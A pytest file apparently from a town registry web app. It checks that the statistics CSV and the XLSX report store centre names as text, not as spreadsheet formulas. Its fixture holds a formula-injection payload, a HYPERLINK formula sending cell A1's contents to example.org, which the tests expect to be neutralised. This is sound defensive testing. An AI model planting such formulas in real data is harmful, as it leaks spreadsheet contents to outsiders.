"""Text typed by towns never becomes a formula in a spreadsheet (issue 15): centre names in the statistics CSV
and the XLSX report, as in every other export (one function: registry.formats.spreadsheet_text)."""

import csv
import io

import openpyxl
import pytest

from registry.places.models import TownCentre

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Klick")'


@pytest.fixture
def formula_centre():
    centre = TownCentre.objects.get(slug="erfurt-altstadt")
    centre.name = FORMULA
    centre.save()
    return centre


def test_centres_csv_keeps_a_formula_as_text(client, formula_centre):
    response = client.get("/api/stats/centres.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell.startswith("'=") for cell in cells)


def test_xlsx_report_has_no_formula_cells(client, formula_centre):
    response = client.get("/statistik/bericht.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert found
    assert all(cell.data_type == "s" and not cell.value.startswith("=") for cell in found)
